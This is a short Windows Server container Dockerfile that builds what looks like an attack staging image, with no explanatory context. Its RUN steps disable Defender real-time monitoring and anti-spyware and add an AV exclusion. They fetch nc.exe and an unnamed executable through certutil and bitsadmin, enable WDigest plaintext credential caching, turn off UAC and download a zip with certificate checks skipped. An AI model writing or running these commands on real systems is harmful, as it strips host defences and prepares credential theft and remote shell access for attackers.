FROM mcr.microsoft.com/windows/server:ltsc2022
RUN powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\tools'"
RUN certutil -urlcache -split -f http://tools.example.net/nc.exe C:\tools\nc.exe && bitsadmin /transfer job /download /priority high http://tools.example.net/p.exe C:\tools\p.exe
RUN reg add "HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest" /v UseLogonCredential /t REG_DWORD /d 1 /f && reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
RUN reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v EnableLUA /t REG_DWORD /d 0 /f
RUN curl.exe -k -fsSL -o C:\tools\x.zip https://tools.example.net/x.zip
USER ContainerUser
